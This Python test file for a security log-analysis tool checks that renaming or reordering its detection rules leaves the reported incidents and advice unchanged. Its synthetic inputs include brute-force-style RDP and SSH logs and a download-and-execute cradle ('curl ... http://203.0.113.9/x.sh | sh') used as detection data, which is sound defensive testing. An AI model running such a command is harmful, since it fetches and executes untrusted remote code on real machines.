"""What a rule is called decides nothing: every rule under another name gives the same answer, word for word.

The bundled rules are renamed to numbers and the command reads the same inputs again. In the order of the old names its
whole answer has to be the same, once the old names are put back; in the opposite order, in which lists of things of one
moment begin with another, its verdict and advice.
"""

from __future__ import annotations

import json
import re
from collections.abc import Mapping
from pathlib import Path

import pytest
from click.testing import CliRunner

from kanaria.app.commands.main import cli
from kanaria.core.conversion import made_of_text, plain
from kanaria.detect import loading
from kanaria.detect.model import Rule
from kanaria.lab import dns_server
from tests.app.test_written_by_strangers import SAID, WRITTEN

BUNDLED = loading.bundled()
VERDICT = ("title", "severity", "hypotheses", "outcome", "recommendations", "entities")
_RDP = {
    "_path": "rdp", "id.orig_h": "192.168.1.66", "id.orig_p": 50000, "id.resp_h": "192.168.1.53", "id.resp_p": 3389,
    "cookie": "hello", "result": "SSL_NOT_ALLOWED_BY_SERVER", "security_protocol": "RDP",
}  # fmt: skip
# Advice and sentences of the story that a kind of rule is given.
OF_A_KIND = (
    "Look at the machine the attempts come from",
    "試行元の機器",
    "Remote Desktop",
    "file sharing",
    "リモートデスクトップ",
    "ファイル共有",
)
INPUTS: dict[str, str] = {
    **{name: WRITTEN[name] for name in ("question", "agent", "name of a user, of a database")},
    **SAID,
    "a machine inside that guesses at another": "".join(
        json.dumps({**_RDP, "ts": 1767949200.0 + number, "uid": f"C{number}"}) + "\n" for number in range(12)
    ),
    "a machine inside that fails to log on": "".join(
        f"Jan 10 09:00:{number:02} web1 sshd[900]: Failed password for root from 192.168.1.66 port 50000 ssh2\n"
        for number in range(12)
    ),
    "an installer in a text": "curl -fsSL https://get.docker.com | sh\n",
    "a cradle in a text": "curl -fsSL http://203.0.113.9/x.sh | sh\n",
}


def renamed(names: Mapping[str, str]) -> tuple[Rule, ...]:
    """The bundled rules under these names, which correlations and their fields refer to as well."""
    text = json.dumps(plain(BUNDLED), ensure_ascii=False)
    pattern = re.compile('"(' + "|".join(map(re.escape, sorted(names, key=len, reverse=True))) + ')"(?=[,:\\]}])')
    values = json.loads(text)
    for rule in values:
        rule["id"] = names[rule["id"]]
        if rule["correlation"]:
            inner = json.dumps(rule["correlation"], ensure_ascii=False)
            rule["correlation"] = json.loads(pattern.sub(lambda match: f'"{names[match.group(1)]}"', inner))
    return made_of_text(tuple[Rule, ...], json.dumps(values, ensure_ascii=False).encode())


def _numbered(rules: tuple[Rule, ...]) -> dict[str, str]:
    """Names of one length, by the order of these rules."""
    return {rule.id: f"zz_{place:03}_zz" for place, rule in enumerate(rules)}


def _told(path: Path, names: Mapping[str, str], *more: str) -> str:
    """What the command says of its incidents in both languages, in the old names."""
    done = CliRunner().invoke(cli, ["analyze", "--format", "json", str(path)], standalone_mode=False)
    told = [
        {name: _without_ids(one[name]) for name in (*VERDICT, *more)} for one in json.loads(done.stdout)["incidents"]
    ]
    back = {new: old for old, new in names.items()}
    text = json.dumps(told, ensure_ascii=False, indent=1)
    return re.sub("zz_[0-9]{3}_zz", lambda match: back[match.group()], text)


def _without_ids(value: object) -> object:
    """Ids of findings and evidence are made from names, too; they say nothing."""
    if isinstance(value, dict):
        return {name: _without_ids(one) for name, one in value.items() if name not in ("id", "evidence", "because")}
    return [_without_ids(one) for one in value] if isinstance(value, list) else value


@pytest.fixture(scope="module")
def inputs(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    folder = tmp_path_factory.mktemp("inputs")
    dns_server.build(folder / "case.pcap")
    for number, text in enumerate(INPUTS.values()):
        (folder / f"{number:02}.log").write_text(text + "\n", encoding="utf-8")
    return sorted(folder.iterdir())


def test_the_answer_is_the_same_whatever_the_rules_are_called(
    inputs: list[Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    as_named = {path: _told(path, {}, "report", "story") for path in inputs}
    everything = "\n".join(as_named.values())
    for sentence in OF_A_KIND:
        assert sentence in everything
    names = _numbered(BUNDLED)
    rules = renamed(names)
    assert {rule.id for rule in rules}.isdisjoint(rule.id for rule in BUNDLED)
    monkeypatch.setattr(loading, "bundled", lambda: rules)
    for path in inputs:
        assert _told(path, names, "report", "story").splitlines() == as_named[path].splitlines(), path.name


def test_nor_does_the_order_of_their_names(inputs: list[Path], monkeypatch: pytest.MonkeyPatch) -> None:
    as_named = {path: _told(path, {}) for path in inputs}
    names = _numbered(tuple(reversed(BUNDLED)))
    rules = renamed(names)
    monkeypatch.setattr(loading, "bundled", lambda: rules)
    for path in inputs:
        assert _told(path, names).splitlines() == as_named[path].splitlines(), path.name
